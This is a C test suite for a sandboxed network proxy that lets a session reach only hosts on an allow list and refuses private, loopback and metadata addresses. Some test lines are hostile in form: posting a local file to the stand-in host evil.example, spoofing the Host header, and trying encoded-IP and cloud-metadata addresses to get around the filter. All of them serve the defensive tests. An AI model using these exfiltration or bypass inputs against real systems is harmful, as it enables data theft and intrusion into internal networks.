/* The network of a session, for real: curl in a namespace, a server on the machine's loopback. */
#include "lab_net.h"

#include <sys/resource.h>

/* The sanitizers keep what was freed, so the size of the process says nothing. */
#if defined(__SANITIZE_ADDRESS__)
enum { CAN_WEIGH = false };
#elif defined(__has_feature)
enum { CAN_WEIGH = !__has_feature(address_sanitizer) };
#else
enum { CAN_WEIGH = true };
#endif

static void where_nothing_is_allowed_there_is_a_loopback_and_no_more(struct loop *loop)
{
	_autofree_ char *told = 0;
	struct net *net = lab_net(loop, "", &told);

	CHECK(!*net_env(net));
	SAYS(net, "ls /sys/class/net >/dev/null; tail -n +3 /proc/net/dev | cut -d: -f1", "    lo\n");
	SAYS(net, "$C --noproxy '*' http://127.0.0.1:8080/; echo $?", "7\n");
	SAYS(net, "$C --noproxy '*' http://93.184.216.34/; echo $?", "7\n");
	SAYS(net, "$C http://api.example/; echo $?", "7\n");
	net_free(net);
	CHECK(!told);
}

static void an_allowed_host_is_reached_by_name(struct loop *loop)
{
	_autofree_ char *told = 0;
	struct net *net = lab_net(loop, "api.example", &told);

	MENTIONS(net, "$C http://api.example/hello", "GET /hello HTTP/1.1\r\nHost: api.example\r\n");
	MENTIONS(net, "$C -p http://API.example./hello", "GET /hello HTTP/1.1\r\n");
	MENTIONS(net, "$C -H 'Host: evil.example' -H 'Connection: X-A' -H 'X-A: 1' http://api.example/",
		 "Host: api.example\r\nUser-Agent: curl/");
	MENTIONS(net, "$C -H 'Connection: X-A' -H 'X-A: 1' http://api.example/", "*/*\r\nConnection: close\r\nbody: 0\n");
	MENTIONS(net, "$C -x 'http://[::1]:3128' http://api.example/", "Host: api.example\r\n");
	MENTIONS(net, "$C -d hello http://api.example/", "body: 5\n");
	MENTIONS(net, "$C -p -d hello http://api.example/", "body: 5\n");
	MENTIONS(net, "head -c 3000000 /dev/zero | $C -T - http://api.example/", "body: 3000000\n");
	MENTIONS(net, "head -c 3000000 /dev/zero | $C -H 'Expect: 100-continue' --data-binary @- http://api.example/",
		 "body: 3000000\n");
	SAYS(net, "$C http://api.example/keep http://api.example/keep", "kept\nkept\n");
	SAYS(net, "$C -i http://api.example/keep", "HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n"
						   "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nkept\n");
	MENTIONS(net, "$C http://both.example/", "both.example:80 is refused: not in network.allow");
	net_free(net);
	CHECK_STR(told, "reached api.example:80\nrefused both.example:80 (not in network.allow)");
}

static void a_refusal_says_what_to_do_about_it(struct loop *loop)
{
	_autofree_ char *told = 0;
	struct net *net = lab_net(loop, "api.example:443\n*.good.example", &told);

	MENTIONS(net, "$C -i http://evil.example/", "HTTP/1.1 403 evil.example:80 is refused: not in network.allow\r\n");
	MENTIONS(net, "$C http://evil.example/", "listed in network.allow in .leadhand/config.yaml");
	MENTIONS(net, "$C -vk https://evil.example/ 2>&1", "< HTTP/1.1 403 evil.example:443 is refused: not in network.allow");
	SAYS(net, "$C -o /dev/null -w %{http_code} http://api.example/", "403");
	SAYS(net, "$C -o /dev/null -w %{http_code} http://good.example/", "403");
	SAYS(net, "$C -o /dev/null -w %{http_code} -d @/bin/sh http://evil.example/", "403");
	net_free(net);
	CHECK_STR(told, "refused evil.example:80 (not in network.allow)\n"
			"refused evil.example:443 (not in network.allow)\n"
			"refused api.example:80 (not in network.allow)\n"
			"refused good.example:80 (not in network.allow)\n"
			"refused evil.example:80 (not in network.allow): 2 more times");
}

static void no_address_and_no_private_name_gets_out(struct loop *loop)
{
	static const char refused[] = "leads into a private network or to this machine";
	_autofree_ char *told = 0;
	struct net *net = lab_net(loop, "inside.example\nmetadata.example\nlocalhost\nboth.example\nnobody.example\n"
					"unknown.example\nown.example", &told);

	SAYS(net, "for host in 93.184.216.34 0x5db8d822 10.1.2.3 169.254.169.254 2130706433 [::1] [::ffff:10.1.2.3]; do "
		  "$C --noproxy '' -o /dev/null -w '%{http_code} ' http://$host/; done",
	     "403 403 403 403 403 403 403 ");
	MENTIONS(net, "$C http://inside.example/", refused);
	MENTIONS(net, "$C http://metadata.example/latest/meta-data/", refused);
	MENTIONS(net, "$C --noproxy '' http://localhost/", refused);
	MENTIONS(net, "$C http://own.example/", refused);
	MENTIONS(net, "$C http://both.example/", "Host: both.example");
	MENTIONS(net, "$C http://nobody.example/", "nobody.example:80 cannot be reached: ");
	MENTIONS(net, "$C http://unknown.example/", "unknown.example:80 cannot be reached: no address is known for this name");
	SAYS(net, "$C --noproxy '*' http://both.example/; echo $?", "7\n");
	net_free(net);
	CHECK(told && strstr(told, "refused inside.example:80 (its name leads into a private network or to this machine)"));
	CHECK(told && strstr(told, "could not reach unknown.example:80 (no address is known for this name)"));
}

static void a_listed_private_address_is_reached(struct loop *loop)
{
	struct net *net = lab_net(loop, "10.1.2.3:80\ninside.example", 0);

	MENTIONS(net, "$C http://10.1.2.3/", "Host: 10.1.2.3\r\n");
	MENTIONS(net, "$C http://inside.example/", "Host: inside.example\r\n");
	net_free(net);
}

static void an_allowed_port_of_the_loopback_is_there(struct loop *loop)
{
	_autofree_ char *told = 0;
	struct net *net = lab_net(loop, "127.0.0.1:8080\nlocalhost:9999", &told);

	MENTIONS(net, "$C http://127.0.0.1:8080/hello", "GET /hello");
	MENTIONS(net, "$C http://localhost:8080/hello", "GET /hello");
	MENTIONS(net, "$C --noproxy '' http://127.0.0.1:8080/hello", "GET /hello");
	SAYS(net, "$C http://127.0.0.1:80/; echo $?", "7\n");
	SAYS(net, "$C http://127.0.0.1:9999/ || echo failed", "failed\n");
	net_free(net);
	CHECK_STR(told, "reached localhost:8080\nreached 127.0.0.1:8080\n"
			"could not reach localhost:9999 (Connection refused)");
}

static void listen_twice(const void *other)
{
	int first = lab_socket("127.0.0.1", 3000, true), second;

	lab_must(!setns(net_namespace(other), CLONE_NEWNET), "setns");
	CHECK(lab_socket("127.0.0.1", 3000, false) < 0);
	second = lab_socket("127.0.0.1", 3000, true);
	CHECK(first >= 0 && second >= 0 && lab_socket("127.0.0.1", 3000, false) >= 0);
}

static void two_sessions_on_one_port_do_not_meet(struct loop *loop)
{
	struct net *one = lab_net(loop, "api.example", 0), *two = lab_net(loop, "api.example", 0);
	_autofree_ char *said = lab_inside(loop, one, listen_twice, two);

	CHECK(!strstr(said, "not ok") && strstr(said, "ok"));
	net_free(one);
	net_free(two);
}

static void many_at_once_are_served(struct loop *loop)
{
	struct net *net = lab_net(loop, "api.example\nlocalhost:8080", 0);

	SAYS(net, "$C -Z --parallel-max 50 -o /dev/null -w '%{http_code}\\n' 'http://api.example/[1-50]' 2>/dev/null | sort | uniq -c",
	     "     50 200\n");
	SAYS(net, "$C -Z --parallel-max 50 -p -o /dev/null -w '%{http_code}\\n' 'http://api.example/[1-50]' 2>/dev/null | sort | uniq -c",
	     "     50 200\n");
	SAYS(net, "$C -Z --parallel-max 50 -o /dev/null -w '%{http_code}\\n' 'http://localhost:8080/[1-50]' 2>/dev/null | sort | uniq -c",
	     "     50 200\n");
	net_free(net);
}

/* Say it piece by piece, then show what comes back. */
static void say_in_pieces(const void *text)
{
	int fd = lab_socket("127.0.0.1", 3128, false);
	char piece[4096];
	ssize_t n;

	for (const char *at = text; *at; at++)
		(void)!send(fd, at, 1, MSG_NOSIGNAL);
	while ((n = recv(fd, piece, sizeof piece, 0)) > 0)
		printf("%.*s", (int)n, piece);
	close(fd);
}

static void fill_the_house(const void *unused)
{
	int fds[300], served = 0;
	char byte;

	(void)unused;
	for (int i = 0; i < 300; i++)
		fds[i] = lab_socket("127.0.0.1", 3128, false);
	for (int i = 0; i < 300; i++) {
		served += recv(fds[i], &byte, 1, MSG_WAITALL) == 1;
		close(fds[i]);
	}
	printf("%d served", served);
}

static void who_speaks_slowly_is_heard_and_who_does_not_speak_is_sent_away(struct loop *loop)
{
	struct net_spec hasty = { .head_ms = 300 };
	_autofree_ char *told = 0;
	struct net *net = lab_net(loop, "api.example", &told);

	lab_check(lab_inside(loop, net, say_in_pieces, "GET http://api.example/slow HTTP/1.1\r\nX-A: b\r\n\r\n"),
		  "GET /slow HTTP/1.1\r\nHost: api.example\r\nX-A: b\r\n", false, __FILE__, __LINE__);
	lab_check(lab_inside(loop, net, say_in_pieces, "GET / HTTP/1.1\r\nHost: api.example\r\n\r\n"),
		  "HTTP/1.1 400 this request is refused: this is a proxy", false, __FILE__, __LINE__);
	net_free(net);
	net = lab_net_with(loop, "api.example", &told, &hasty);
	lab_check(lab_inside(loop, net, say_in_pieces, "GET http://api.example/ HTTP/1.1\r\n"), "HTTP/1.1 408 ", false,
		  __FILE__, __LINE__);
	/* More than have a place at once: each gets one when another was sent away. */
	GUEST(net, fill_the_house, 0, "300 served");
	MENTIONS(net, "$C http://api.example/hello", "GET /hello");
	MENTIONS(net, "$C -H \"X: $(head -c 17000 /dev/zero | tr '\\0' x)\" -i http://api.example/", "HTTP/1.1 431 ");
	net_free(net);
	CHECK(strstr(told, "refused a request (its head did not come in time)"));
	CHECK(strstr(told, "refused a request (its head did not come in time): 300 more times"));
}

/* A tunnel; what its first answer was is dropped. */
static int tunnel(const char *host)
{
	int fd = lab_socket("127.0.0.1", 3128, false);
	_autofree_ char *head = mem_printf("CONNECT %s HTTP/1.1\r\n\r\n", host);
	char answer[39];

	lab_send(fd, head);
	lab_must(recv(fd, answer, sizeof answer, MSG_WAITALL) == sizeof answer && strstr(answer, " 200 "), "tunnel");
	return fd;
}

static void end_one_way(const void *unused)
{
	int fd = tunnel("api.example:80");
	_autofree_ char *much = mem_new(1, 1000000);
	char piece[100];
	ssize_t n;

	(void)unused;
	lab_send(fd, "COUNT\n");
	for (int i = 0; i < 5; i++)
		(void)!send(fd, much, 1000000, MSG_NOSIGNAL);
	shutdown(fd, SHUT_WR);
	n = recv(fd, piece, sizeof piece, MSG_WAITALL);
	printf("%.*s", n < 0 ? 0 : (int)n, piece);
}

static void say_nothing(const void *unused)
{
	int fd = tunnel("api.example:80");
	char byte;

	(void)unused;
	printf("%zd", recv(fd, &byte, 1, 0));
}

static void a_tunnel_ends_one_way_at_a_time_and_not_by_itself(struct loop *loop)
{
	struct net_spec hasty = { .idle_ms = 300 };
	struct net *net = lab_net_with(loop, "api.example", 0, &hasty);

	GUEST(net, end_one_way, 0, "5000000\n");
	GUEST(net, say_nothing, 0, "0");
	net_free(net);
}

static long long own_kilobytes(void)
{
	_cleanup_(err_release) struct err err = ERR_INIT;
	_autofree_ char *status = 0;

	if (fs_read("/proc/self/status", 65536, &status, 0, &err))
		return -1;
	return strtoll(strstr(status, "VmHWM:") + 6, 0, 10);
}

static void much_goes_through_little_memory(struct loop *loop)
{
	struct net *net = lab_net(loop, "api.example", 0);
	long long before = own_kilobytes();

	SAYS(net, "$C -p http://api.example/big | wc -c", "104857600\n");
	SAYS(net, "$C http://api.example/big | wc -c", "104857600\n");
	MENTIONS(net, "head -c 104857600 /dev/zero | $C -p -T - http://api.example/", "body: 104857600\n");
	/* One that is slower than the other side. */
	SAYS(net, "$C -p --limit-rate 100M http://api.example/big | wc -c", "104857600\n");
	CHECK(!CAN_WEIGH || own_kilobytes() - before < 8192);
	net_free(net);
}

/* Opens a tunnel and is heard no more of: the process stays in it until it is cut. */
static void leave_open(const void *end)
{
	int fd = tunnel("api.example:80");
	char byte = 'x';

	printf("open");
	fflush(stdout);
	close(1);
	close(2);
	if (recv(fd, &byte, 1, 0) <= 0)
		(void)!write(*(const int *)end, "cut", 3);
}

static void what_is_open_at_the_end_is_cut(struct loop *loop)
{
	struct net *net = lab_net(loop, "api.example", 0);
	char word[8] = "";
	int ends[2];

	lab_must(!pipe2(ends, O_CLOEXEC), "pipe");
	GUEST(net, leave_open, &ends[1], "open");
	net_free(net);
	CHECK_INT(read(ends[0], word, 3), 3);
	CHECK_STR(word, "cut");
	close(ends[0]);
	close(ends[1]);
}

static void without_descriptors_callers_wait(struct loop *loop)
{
	struct net *net = lab_net(loop, "localhost:8080\napi.example", 0);
	int next = dup(0);
	struct rlimit old, low;

	close(next);
	getrlimit(RLIMIT_NOFILE, &old);
	low = (struct rlimit){ (rlim_t)next + 12, old.rlim_max };
	setrlimit(RLIMIT_NOFILE, &low);
	SAYS(net, "ulimit -n 500; $C -Z --parallel-max 30 -o /dev/null 'http://api.example/[1-30]' 2>/dev/null; "
		  "$C -o /dev/null -w %{http_code} http://api.example/", "200");
	setrlimit(RLIMIT_NOFILE, &old);
	net_free(net);
}

static void without_the_right_to_it_there_is_a_sentence(struct loop *loop)
{
	_cleanup_(err_release) struct err err = ERR_INIT;
	struct net *net = 0;

	/* Only who may become another can lose the right for a while. */
	if (geteuid() || seteuid(1500))
		return;
	CHECK_INT(net_new(&(struct net_spec){ .loop = loop, .allow = "" }, &net, &err), ERR_SYSTEM);
	CHECK_STR(err.text, "cannot make a network namespace: Operation not permitted");
	CHECK_INT(seteuid(0), 0);
}

static void a_bad_entry_makes_no_network(struct loop *loop)
{
	_cleanup_(err_release) struct err err = ERR_INIT;
	struct net *net = 0;

	CHECK_INT(net_new(&(struct net_spec){ .loop = loop, .allow = "api.example\nhttp://x" }, &net, &err), ERR_USAGE);
	CHECK_STR(err.text, "'http://x' cannot stand in network.allow: it is an address of a page: only its host is wanted, "
			    "as in 'example.org'");
}

static size_t own_files(void)
{
	_autofree_ char *names = fs_list("/proc/self/fd");

	return lines_count(names);
}

int main(int argc, char **argv)
{
	struct loop *loop;
	size_t files;

	(void)argv;
	lab_become(argc > 1);
	lab_machine();
	lab_serve("0.0.0.0", 80);
	lab_serve("127.0.0.1", 8080);
	loop = loop_new();
	files = own_files();
	where_nothing_is_allowed_there_is_a_loopback_and_no_more(loop);
	an_allowed_host_is_reached_by_name(loop);
	a_refusal_says_what_to_do_about_it(loop);
	no_address_and_no_private_name_gets_out(loop);
	a_listed_private_address_is_reached(loop);
	an_allowed_port_of_the_loopback_is_there(loop);
	two_sessions_on_one_port_do_not_meet(loop);
	many_at_once_are_served(loop);
	who_speaks_slowly_is_heard_and_who_does_not_speak_is_sent_away(loop);
	a_tunnel_ends_one_way_at_a_time_and_not_by_itself(loop);
	much_goes_through_little_memory(loop);
	what_is_open_at_the_end_is_cut(loop);
	without_descriptors_callers_wait(loop);
	without_the_right_to_it_there_is_a_sentence(loop);
	a_bad_entry_makes_no_network(loop);
	CHECK_INT(own_files(), files);
	loop_free(loop);
	unlink(lab_hosts);
	return tap_done();
}
